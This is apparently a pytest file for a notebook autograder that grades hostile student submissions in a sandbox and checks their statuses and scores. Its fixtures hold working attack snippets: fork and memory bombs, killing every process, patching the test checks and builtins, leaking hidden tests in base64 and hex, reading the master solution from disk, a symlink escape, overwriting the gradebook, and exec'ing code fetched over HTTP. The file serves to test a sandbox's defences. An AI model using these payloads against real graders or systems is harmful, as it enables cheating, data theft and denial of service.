"""Hostile and broken submissions, graded in one batch with correct ones.

Every fixture is made here from the master of ``00_welcome`` (one exercise, ``speedup``,
one test cell worth 2 points) by :mod:`autograde.synthetic`, with one attack or failure
each. The whole class goes through ``autograde grade`` at once (two workers, the
sandbox's default limits, shorter wall-time limits); then each submission must have its
expected status and score, the correct ones full marks, the gradebook and the other
submissions untouched, no hidden test in any feedback page, and no process, cgroup or
file of the run left behind. The table of attacks and what they get is in README.md
("Threat model").
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import threading
from pathlib import Path

import pytest

from autograde import sandbox, synthetic
from autograde.course import Course, sha256_file
from autograde.feedback import feedback
from autograde.grade import Limits, grade, marked_pids
from course_lib.cases import SEED_ENV, seed_for
from tests.test_instructor import A0, _gradebook_scores, _make_course, _points, plant_in_hidden_test

pytestmark = [pytest.mark.grading, pytest.mark.adversarial]

MARKER = "HIDDEN-A0-MARKER-51c2e8"
# A correct 00 grades in ~3 s here (the biggest output, 12 s): the limits leave 3x and more
LIMITS = Limits(cell_timeout_s=10, notebook_timeout_s=40)
WRONG = "def speedup(T_baseline, T_new):\n    return 1.0\n"
# finds the master's solution of speedup in a notebook's text (what an attacker would exec)
STEAL = ("def _steal(text):\n"
         "    import json\n"
         "    for c in json.loads(text)['cells']:\n"
         "        if c.get('id') == 'speedup' and 'BEGIN SOLUTION' in ''.join(c['source']):\n"
         "            return ''.join(c['source'])\n"
         "    raise LookupError('no solution here')\n")


def _solution(nb: dict) -> dict:
    return next(c for c in nb["cells"] if c.get("id") == "speedup")


def _with(solution: str | None = None, extra: str | None = None, before_test: bool = False,
          base: str = "correct") -> dict:
    """The master (or the blank notebook) with the solution cell's source replaced and/or
    one more code cell after the solution (``before_test``) or at the end."""
    nb = synthetic.correct(A0) if base == "correct" else synthetic.blank(A0)
    cell = _solution(nb)
    if solution is not None:
        cell["source"] = solution
    if extra is not None:
        new = {"cell_type": "code", "execution_count": None, "id": f"x{len(extra) % 9973}",
               "metadata": {}, "outputs": [], "source": extra}
        at = nb["cells"].index(cell) + 1 if before_test else len(nb["cells"])
        nb["cells"].insert(at, new)
    return nb


def _test_cell(nb: dict) -> dict:
    return next(c for c in nb["cells"] if c.get("id") == "test_speedup")


def _fixtures(course: Course, port: int) -> dict[str, tuple[object, str, float | None]]:
    """name -> (notebook dict, raw bytes or a callable that places it; expected status;
    expected score (None: full marks))."""
    correct = "".join(_solution(synthetic.correct(A0))["source"]) + "\n"
    master = course.master(A0)
    gradebook = course.root / "gradebook.db"
    other = course.submitted("correct_a", A0) / f"{A0}.ipynb"
    F: dict[str, tuple[object, str, float | None]] = {}
    F["correct_a"] = (synthetic.correct(A0), "ok", None)
    F["correct_b"] = (synthetic.correct(A0), "ok", None)
    F["blank"] = (synthetic.blank(A0), "ok", 0)
    # the hidden tests' random cases are seeded per student (course_lib.cases): the kernel
    # sees its own submission's seed, so an answer keyed to a classmate's cases fails
    def keyed_to(seed: str) -> str:
        return (f"import os\nif os.environ.get({SEED_ENV!r}) == {seed!r}:\n"
                + "".join("    " + line + "\n" for line in correct.splitlines())
                + "else:\n" + "".join("    " + line + "\n" for line in WRONG.splitlines()))
    F["seeded_own"] = (_with(keyed_to(seed_for("seeded_own", A0))), "ok", None)
    F["seeded_classmate"] = (_with(keyed_to(seed_for("seeded_own", A0))), "ok", 0)

    # --- runaway code
    # a cell past the per-cell limit is that cell's error, and grading goes on (nbgrader's
    # rule): the loop after a correct solution costs nothing; one that survives its
    # interrupt runs into the notebook's limit. What is tested is the time limits, so the
    # loops wait rather than spin (a spinning job only takes its one CPU, the cgroup's quota:
    # test_cgroups), and with a third worker sharing a CPU the rest of the class is graded
    # meanwhile. Named to sort first: jobs start in the order of the students' names, and
    # these two, which run to a limit, are best started first
    F["a_loop_past_the_cell_limit"] = (_with(correct + (
        "\nimport time\nwhile True:\n    time.sleep(0.05)\n")), "ok", None)
    F["a_loop_that_swallows_interrupts"] = (_with(correct + (
        "\nimport time\nwhile True:\n    try:\n        while True:\n            time.sleep(0.05)\n"
        "    except BaseException:\n        pass\n")), "timeout", 0)
    F["memory_bomb"] = (_with(correct + "\nhog = []\nwhile True:\n"
                              "    hog.append(b'x' * (64 * 2**20))\n"), "memory", 0)
    F["fork_bomb"] = (_with(correct, extra=(
        "import subprocess\nkids = []\nfor _ in range(100000):\n    try:\n"
        "        kids.append(subprocess.Popen(['sleep', '1000']))\n"
        "    except OSError:\n        break\nprint(len(kids), 'processes, then refused')\n"),
        before_test=True), "ok", None)
    F["output_100mb"] = (_with(correct, extra="print('x' * 100_000_000)\n", before_test=True),
                         "ok", None)
    # one message over Limits.message_mb (128 MiB) is dropped unread: the grader never holds
    # it; the output channel is cut off, and the tests are graded on the kernel's replies
    F["output_200mb_at_once"] = (_with(correct, extra="print('x' * 200_000_000)\n",
                                       before_test=True), "ok", None)
    F["sys_exit"] = (_with(WRONG + "import sys\nsys.exit(0)\n"), "ok", 0)
    F["os_exit"] = (_with(correct + "import os\nos._exit(0)\n"), "crash", 0)
    F["kill_everything"] = (_with(correct + (
        "import os, signal\nfor p in os.listdir('/proc'):\n"
        "    if p.isdigit() and int(p) != os.getpid():\n"
        "        try:\n            os.kill(int(p), signal.SIGKILL)\n"
        "        except OSError:\n            pass\nos.kill(os.getpid(), signal.SIGKILL)\n")),
        "crash", 0)

    # --- broken or misplaced files
    F["corrupt_json"] = (b'{"cells": [ this is not json', "invalid", 0)
    F["not_a_notebook"] = (b'{"hello": "world"}', "invalid", 0)
    F["missing_notebook"] = ({"notes.txt": b"I forgot the notebook"}, "invalid", 0)
    F["renamed_notebook"] = ({f"{A0}-Copy1.ipynb": json.dumps(synthetic.correct(A0)).encode()},
                             "invalid", 0)
    F["symlink_submission"] = (("symlink", master), "invalid", 0)

    # --- tampering with the tests
    nb = _with(WRONG)
    _test_cell(nb)["source"] = "pass\n"
    F["edited_test"] = (nb, "ok", 0)
    # --- mangled structure (autograde.repair): repaired from the master, then graded; each
    # earns what its answer earns, and its feedback says what was repaired (REPAIRED below)
    nb = synthetic.correct(A0)
    nb["cells"].remove(_test_cell(nb))
    F["deleted_test"] = (nb, "ok", None)
    nb = _with(WRONG)
    dup = json.loads(json.dumps(_test_cell(nb)))
    dup["id"] = "dup"
    nb["cells"].insert(nb["cells"].index(_test_cell(nb)), dup)
    F["duplicated_test"] = (nb, "ok", 0)
    nb = synthetic.correct(A0)
    _test_cell(nb)["metadata"]["nbgrader"]["points"] = 100
    F["changed_points"] = (nb, "ok", None)
    nb = synthetic.correct(A0)
    _test_cell(nb)["metadata"]["nbgrader"]["grade_id"] = "test_speedup_mine"
    F["changed_grade_id"] = (nb, "ok", None)
    nb = synthetic.correct(A0)
    test = _test_cell(nb)
    nb["cells"].remove(test)
    nb["cells"].insert(nb["cells"].index(_solution(nb)), test)
    F["reordered_cells"] = (nb, "ok", None)
    nb = synthetic.correct(A0)
    del _solution(nb)["metadata"]["nbgrader"]  # an editor that drops nbgrader's metadata
    _solution(nb)["id"] = "renamed"
    F["solution_without_metadata"] = (nb, "ok", None)
    nb = synthetic.correct(A0)
    nb["cells"].remove(_solution(nb))
    F["deleted_solution"] = (nb, "ok", 0)

    # --- lying objects and patched helpers (in the kernel)
    F["lying_eq"] = (_with(
        "class Liar(float):\n    def __eq__(self, other):\n        return True\n"
        "    __le__ = __lt__ = __ge__ = __gt__ = __eq__\n"
        "    def __bool__(self):\n        return True\n"
        "    def __float__(self):\n        return 2.0\n"
        "    def __sub__(self, other):\n        return 0.0\n"
        "def speedup(T_baseline, T_new):\n    return Liar(1.0)\n"), "ok", 0)
    F["patched_checks"] = (_with(WRONG + (
        "import course_lib.checks as checks\nfor name in checks.__all__:\n"
        "    if name.startswith('check'):\n"
        "        setattr(checks, name, lambda *a, **k: None)\n")), "invalid", 0)
    F["patched_builtins"] = (_with(WRONG + "import builtins\nbuiltins.abs = lambda x: 0.0\n"),
                             "invalid", 0)
    F["patched_numpy_testing"] = (_with(WRONG + (
        "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n"
        "import course_lib.checks as checks\nchecks.check_close = checks.check_array_close\n")),
        "invalid", 0)
    F["no_tracebacks"] = (_with(WRONG + (
        "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
        "ip._showtraceback = lambda *a, **k: None\n")), "invalid", 0)
    F["input_transformer"] = (_with(WRONG + (
        "get_ipython().input_transformers_cleanup.append(\n"
        "    lambda lines: ['pass\\n'] if any('check_close' in ln for ln in lines) "
        "else lines)\n")), "invalid", 0)
    F["clears_its_errors"] = (_with(WRONG + (
        "from IPython.display import clear_output\n"
        "get_ipython().events.register('post_run_cell', "
        "lambda result: clear_output())\n")), "invalid", 0)
    # outputs never award points: nbgrader reads the first execute_result as the grade
    F["forges_points_blank"] = (_with(extra=(
        "get_ipython().events.register('pre_execute', "
        "lambda: get_ipython().displayhook('forged'))\n"), before_test=True, base="blank"),
        "invalid", 0)
    F["forges_points_displayhook"] = (_with(
        "def speedup(T_baseline, T_new):\n    import sys\n    sys.displayhook(2)\n"
        "    return 1.0\n"), "ok", 0)
    F["forges_points_display"] = (_with(
        "def speedup(T_baseline, T_new):\n    from IPython.display import display\n"
        "    display(2)\n    return 1.0\n"), "ok", 0)
    # the guard cannot be shadowed, replaced or bypassed through the namespace's builtins
    F["shadows_the_guard"] = (_with(WRONG + (
        "__autograde_verify__ = lambda *a, **k: None\n"
        "import builtins\n"
        "for k in [k for k in vars(builtins) if k.startswith('__autograde')]:\n"
        "    setattr(builtins, k, lambda *a, **k: None)\n"
        "import course_lib.checks as checks\nfor name in checks.__all__:\n"
        "    if name.startswith('check'):\n"
        "        setattr(checks, name, lambda *a, **k: None)\n")), "invalid", 0)
    F["rebinds_builtins"] = (_with(WRONG + (
        "import builtins, types\nfake = types.ModuleType('course_lib.checks')\n"
        "fake.__dict__.update(vars(__import__('course_lib.checks').checks))\n"
        "fake.check_close = lambda *a, **k: None\n"
        "real_import = builtins.__import__\n"
        "def my_import(name, *a, **k):\n"
        "    return fake if name == 'course_lib.checks' else real_import(name, *a, **k)\n"
        "__builtins__ = dict(vars(builtins), __import__=my_import)\n")), "invalid", 0)
    F["post_execute_hook"] = (_with(WRONG + (
        "get_ipython().events.register('post_execute', lambda: None)\n")), "invalid", 0)
    # hidden tests never reach feedback, in any encoding (the test cell's source read from the
    # frames calling the solution, printed base64-encoded while the test runs, once, and
    # hex-encoded in a later cell)
    F["leaks_encoded_source"] = (_with(
        correct + "_right = speedup\n"
        "def speedup(T_baseline, T_new):\n"
        "    import base64, linecache, sys\n"
        "    if '_stash' not in globals():\n"
        "        frame = sys._getframe(1)\n"
        "        while frame.f_code.co_filename.endswith('.py'):  # past course_lib's helpers\n"
        "            frame = frame.f_back\n"
        "        src = ''.join(linecache.getlines(frame.f_code.co_filename))\n"
        "        src += ''.join(get_ipython().user_ns.get('In', [])[-1:])\n"
        "        print(base64.b64encode(src.encode()).decode())\n"
        "        globals()['_stash'] = src\n"
        "    return _right(T_baseline, T_new)\n",
        extra="print(_stash.encode().hex())\n"), "ok", None)
    # a 40 MB exception message is capped in the autograded notebook and the feedback
    F["huge_exception"] = (_with(
        "def speedup(T_baseline, T_new):\n    raise ValueError('x' * 40_000_000)\n"),
        "ok", 0)
    # a process that leaves the job's session and clears its environment still ends
    F["escapes_session"] = (_with(correct, extra=(
        "import subprocess\nsubprocess.Popen(['sleep', '7391.5'], env={}, "
        "start_new_session=True)\n"), before_test=True), "ok", None)
    F["fake_success"] = (_with(WRONG + "print('test_speedup: all tests passed, 2/2 points')\n"),
                         "ok", 0)
    F["hardcodes_visible_tests"] = (_with(
        "def speedup(T_baseline, T_new):\n"
        "    if T_new == 0:\n        raise ValueError('T_new must be > 0')\n"
        "    return {(10.0, 5.0): 2.0, (3.0, 4.0): 0.75}.get((T_baseline, T_new), 1.0)\n"),
        "ok", 0)
    F["leaks_hidden_tests"] = (_with(WRONG + (
        "get_ipython().events.register('post_run_cell', "
        "lambda result: print(result.info.raw_cell))\n")), "invalid", 0)

    # --- escaping the sandbox: network, files, processes
    F["network"] = (_with(
        f"import urllib.request\n"
        f"exec(urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=5).read().decode())\n"),
        "ok", 0)
    F["reads_the_master"] = (_with(STEAL + f"exec(_steal(open({str(master)!r}).read()))\n"),
                             "ok", 0)
    F["searches_the_disk"] = (_with(STEAL + (
        "import os\nfound = None\n"
        "for top, dirs, files in os.walk('/'):\n"
        "    if top.startswith(('/proc', '/sys', '/dev', '/usr')):\n"
        "        dirs[:] = []\n        continue\n"
        "    for f in files:\n"
        "        if f.endswith('.ipynb'):\n"
        "            try:\n                found = _steal(open(os.path.join(top, f)).read())\n"
        "            except Exception:\n                pass\n"
        "exec(found)\n")), "ok", 0)
    F["symlink_escape"] = (_with(STEAL + (
        f"import os\nos.symlink({str(master.parent)!r}, 'escape')\n"
        f"exec(_steal(open('escape/{master.name}').read()))\n")), "ok", 0)
    F["writes_gradebook_and_others"] = (_with(WRONG + (
        "import sqlite3\n"
        "try:\n"
        f"    con = sqlite3.connect({str(gradebook)!r})\n"
        "    con.execute('update grade set auto_score = 100')\n    con.commit()\n"
        "except Exception as e:\n    print('gradebook:', type(e).__name__)\n"
        "try:\n"
        f"    open({str(other)!r}, 'w').write('{{}}')\n"
        "except Exception as e:\n    print('other submission:', type(e).__name__)\n")), "ok", 0)
    # `ray start` in the background (not ray.init: how long Ray takes to start on a loaded
    # machine must not decide this test), never stopped
    F["ray_left_running"] = (_with(correct, extra=(
        "import subprocess\nray = subprocess.Popen(['ray', 'start', '--head', '--block',\n"
        "    '--num-cpus=1', '--include-dashboard=false', '--object-store-memory=80000000'],\n"
        "    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n"),
        before_test=True), "ok", None)
    return F


def _place(course: Course, student: str, what) -> None:
    folder = course.submitted(student, A0)
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / f"{A0}.ipynb"
    if isinstance(what, bytes):
        target.write_bytes(what)
    elif isinstance(what, tuple) and what[0] == "symlink":
        target.symlink_to(what[1])
    elif isinstance(what, dict) and "cells" not in what:
        for name, data in what.items():
            (folder / name).write_bytes(data)
    else:
        synthetic.write(what, target)


class _Solution(http.server.BaseHTTPRequestHandler):
    body = b""

    def do_GET(self):  # noqa: N802 - the http.server API
        self.send_response(200)
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args):
        pass


def _hidden_in(text: str, secret: str) -> list[str]:
    """The ways ``secret`` appears in ``text``: as is, hex-encoded, or inside a run of
    base64 (decoded at each of its four alignments)."""
    import base64
    import re

    found = [how for how, form in (("plain", secret), ("hex", secret.encode().hex()))
             if form in text or form.upper() in text]
    for run in re.findall(r"[A-Za-z0-9+/]{16,}={0,2}", text):
        for skip in range(4):
            chunk = run[skip:]
            chunk = chunk[: len(chunk) - len(chunk) % 4]
            try:
                if secret.encode() in base64.b64decode(chunk):
                    found.append("base64")
            except ValueError:
                pass
    return found


def _escaped(tag: str) -> list[int]:
    """Processes whose command line holds ``tag`` (one that left the job's session)."""
    out = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if tag.encode() in (entry / "cmdline").read_bytes():
                    out.append(int(entry.name))
            except OSError:
                pass
    return out


def _leftovers(course: Course) -> list[str]:
    out = [f"process {p}" for p in marked_pids(f"AUTOGRADE_COURSE_STATE={course.state}")]
    tag = sandbox.owner_tag(str(course.state))
    for parent in sandbox.capabilities().cgroups.values():
        out += [f"cgroup {p}" for p in parent.glob(f"ag-{tag}-*")]
    if (course.state / "jobs").exists():
        out.append(f"{course.state / 'jobs'}")
    return out


REPAIRED = ("deleted_test", "duplicated_test", "changed_points", "changed_grade_id",
            "reordered_cells", "solution_without_metadata", "deleted_solution")


@pytest.mark.ray  # one submission runs `ray start`
def test_hostile_submissions_get_their_status_and_nothing_more(tmp_path):
    caps = sandbox.capabilities()
    if not caps.complete:
        why = "the sandbox is incomplete here: " + "; ".join(caps.off)
        if os.environ.get("AUTOGRADE_REQUIRE_SANDBOX") == "1":  # CI: never green unrun
            pytest.fail(f"AUTOGRADE_REQUIRE_SANDBOX=1, but {why}")
        pytest.skip(why)
    sockets_before = set(Path("/tmp").glob("agk-*"))
    course = _make_course(tmp_path, names=(A0,))
    master = course.master(A0)
    plant_in_hidden_test(master, MARKER, "test_speedup")
    course.release(log=lambda *_: None)

    correct = "".join(_solution(synthetic.correct(A0))["source"])
    _Solution.body = correct.encode()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Solution)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        fixtures = _fixtures(course, server.server_address[1])
        for student, (what, _, _) in fixtures.items():
            _place(course, student, what)
        others = {s: sha256_file(course.submitted(s, A0) / f"{A0}.ipynb")
                  for s in ("correct_a", "correct_b")}
        lines: list[str] = []
        results = {r.student: r for r in grade(course, workers=3, limits=LIMITS,
                                               log=lines.append, progress=False)}
    finally:
        server.shutdown()
    print("\n".join(lines))
    assert any("sandbox:" in ln and "bubblewrap" in ln for ln in lines), lines
    full = sum(_points(A0).values())
    wrong = []
    for student, (_, status, score) in fixtures.items():
        r = results[student]
        want = full if score is None else score
        if r.status != status or r.score != want:
            wrong.append(f"{student}: expected {status} {want:g}, got {r.status} {r.score:g} "
                         f"({r.reason})")
        if r.status != "ok":
            assert r.reason, f"{student}: a {r.status} needs a reason"
    assert not wrong, "\n".join(wrong)

    # the rest of the class is untouched
    scores = _gradebook_scores(course)
    assert scores[("correct_a", A0)] == (full, full) and scores[("correct_b", A0)] == (full, full)
    for s, sha in others.items():
        assert sha256_file(course.submitted(s, A0) / f"{A0}.ipynb") == sha, s
    assert MARKER in master.read_text()  # the master is intact
    # output was capped, hidden tests never reach feedback
    big = course.autograded("output_100mb", A0) / f"{A0}.ipynb"
    assert big.stat().st_size < 5 * 2**20, big.stat().st_size
    huge = course.autograded("huge_exception", A0) / f"{A0}.ipynb"
    assert huge.stat().st_size < 2**20, huge.stat().st_size
    pages = feedback(course, log=lambda *_: None)
    assert pages
    # the mangled ones were repaired, and their feedback (and the result) says what
    for student in REPAIRED:
        assert results[student].repairs, f"{student}: nothing said about its repair"
        page = next(p for p in pages if student in p.parts)
        assert "Repaired before grading" in page.read_text(), f"{student}: {page}"
    assert not any(r.repairs for s, r in results.items() if s not in REPAIRED)
    for page in pages:
        text = page.read_text()
        assert not _hidden_in(text, MARKER) and "BEGIN HIDDEN TESTS" not in text, page
        assert page.stat().st_size < 2**20, page
    # the leak really was attempted: the autograded notebook (the instructor's) holds it
    leaked = course.autograded("leaks_encoded_source", A0) / f"{A0}.ipynb"
    assert {"base64", "hex"} <= set(_hidden_in(leaked.read_text(), MARKER))
    assert not _escaped("7391.5"), "a process that left the job's session survived it"
    # nothing left behind: processes, cgroups, scratch folders, kernel socket folders
    assert not _leftovers(course), _leftovers(course)
    assert not set(Path("/tmp").glob("agk-*")) - sockets_before


def test_invalid_inputs_are_recorded_without_running_anything(tmp_path):
    """Found before anything runs: a journal record with status invalid and the reason."""
    course = _make_course(tmp_path, names=(A0,))
    _place(course, "broken", b"\x00\x01 not json")
    _place(course, "renamed", {"notebook.ipynb": b"{}"})
    results = {r.student: r for r in grade(course, workers=1, log=lambda *_: None,
                                           progress=False)}
    assert results["broken"].status == "invalid" and "JSON" in results["broken"].reason
    assert results["renamed"].status == "invalid" and "renamed" in results["renamed"].reason
    assert all(r.score == 0 and r.max_score > 0 for r in results.values())
    again = grade(course, workers=1, log=lambda *_: None, progress=False)  # recorded: kept
    assert {r.student for r in again} == {"broken", "renamed"}
    shutil.rmtree(course.state / "journal")


def test_a_missing_protection_is_said_not_silent():
    caps = sandbox.Capabilities(root=False, off=[
        "network, filesystem and process isolation: bubblewrap is not installed",
        "unprivileged user and cgroups: grading is not running as root"])
    line = sandbox.describe(Limits(), caps)
    assert "sandbox: OFF:" in line and "bubblewrap is not installed" in line
    assert "not running as root" in line and "memory" not in line.split("OFF")[0]


def test_grading_is_refused_without_the_sandbox_unless_asked(tmp_path, monkeypatch, capsys):
    """A missing protection stops `autograde grade` (one line naming each, and how to get
    it); --no-sandbox grades anyway, saying what is off."""
    from autograde.cli import main

    course = _make_course(tmp_path, names=(A0,))
    caps = sandbox.Capabilities(root=False, off=[
        "network, filesystem and process isolation: bubblewrap is not installed"])
    monkeypatch.setattr(sandbox, "capabilities", lambda: caps)
    assert main(["--course", str(course.root), "grade"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "refusing to grade without the sandbox" in err[0], err
    assert "bubblewrap is not installed" in err[0] and "make sandbox" in err[0]
    assert "--no-sandbox" in err[0]
    assert main(["--course", str(course.root), "grade", "--no-sandbox"]) == 0
    assert "sandbox: OFF (--no-sandbox): network" in capsys.readouterr().out


def _row(course: Course, student: str) -> tuple[float, float] | None:
    return _gradebook_scores(course).get((student, A0))


def test_the_newest_submission_counts_everywhere_even_when_it_fails(tmp_path):
    """One truth: a resubmission that does not run to the end scores 0 in the gradebook,
    autograded/, the export and the feedback, not the previous submission's points; a
    student whose only submission failed has a row too."""
    import csv

    from autograde.feedback import export

    course = _make_course(tmp_path, names=(A0,))
    full = sum(_points(A0).values())
    _place(course, "ana", synthetic.correct(A0))
    _place(course, "ben", synthetic.correct(A0))
    _place(course, "cleo", _with(WRONG + "import os\nos._exit(0)\n"))  # never ok
    first = {r.student: r for r in grade(course, workers=2, log=lambda *_: None,
                                         progress=False)}
    assert first["ana"].status == first["ben"].status == "ok"
    assert _row(course, "ana") == (full, full)
    # resubmissions: ana's file is damaged, ben's kernel dies; both replace a full grade
    _place(course, "ana", b'{"cells": [ not json')
    _place(course, "ben", _with(correct_source() + "import os\nos._exit(0)\n"))
    results = {r.student: r for r in grade(course, workers=2, log=lambda *_: None,
                                           progress=False)}
    assert (results["ana"].status, results["ben"].status) == ("invalid", "crash"), results
    assert results["cleo"].status == "crash"  # unchanged, kept from the journal
    for student in ("ana", "ben", "cleo"):
        r = results[student]
        assert r.score == 0 and r.max_score == full, r
        assert _row(course, student) == (0.0, full), (student, _gradebook_scores(course))
        nb = json.loads((course.autograded(student, A0) / f"{A0}.ipynb").read_text())
        test = _test_cell(nb)
        assert test["outputs"][0]["ename"] == "AutogradeNotGraded", test["outputs"]
        assert r.status in test["outputs"][0]["evalue"]
    rows = {row["student_id"]: row for row in csv.DictReader(
        export(course, tmp_path / "grades.csv", log=lambda *_: None).open())}
    assert {s: float(rows[s]["score"]) for s in ("ana", "ben", "cleo")} == dict.fromkeys(
        ("ana", "ben", "cleo"), 0.0)
    pages = {p.parent.parent.name: p.read_text() for p in feedback(course, log=lambda *_: None)}
    assert "not graded: invalid" in pages["ana"] and "not graded: crash" in pages["ben"]


def correct_source() -> str:
    return "".join(_solution(synthetic.correct(A0))["source"]) + "\n"


def test_a_killed_driver_leaves_nothing_running(tmp_path):
    """kill -9 of `autograde grade` takes its fork servers, their jobs and the kernels with
    it (PR_SET_PDEATHSIG down the chain, bubblewrap's --die-with-parent); the next run
    clears the scratch folders and cgroups it left."""
    import signal
    import subprocess
    import sys
    import time

    course = _make_course(tmp_path, names=(A0,))
    _place(course, "loops", _with(correct_source() + "while True:\n    pass\n"))
    driver = subprocess.Popen([sys.executable, "-m", "autograde", "--course", str(course.root),
                               "grade", "--workers", "1"], stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)
    marker = f"AUTOGRADE_COURSE_STATE={course.state}"
    deadline = time.monotonic() + 120
    try:
        while time.monotonic() < deadline:  # until the kernel runs the loop
            if any(b"ipykernel" in Path(f"/proc/{p}/cmdline").read_bytes()
                   for p in marked_pids(marker) if Path(f"/proc/{p}").exists()):
                break
            time.sleep(0.5)
        else:
            pytest.fail("the submission's kernel never started")
        driver.send_signal(signal.SIGKILL)
        driver.wait()
        deadline = time.monotonic() + 30
        while marked_pids(marker) and time.monotonic() < deadline:
            time.sleep(0.5)
        assert not marked_pids(marker), "processes of a killed grading run survived it"
    finally:
        if driver.poll() is None:
            driver.kill()
    # the next run clears the rest (with a short limit: the loop is not what is tested)
    grade(course, limits=Limits(cell_timeout_s=5, notebook_timeout_s=30), workers=1,
          log=lambda *_: None, progress=False)
    assert not _leftovers(course), _leftovers(course)
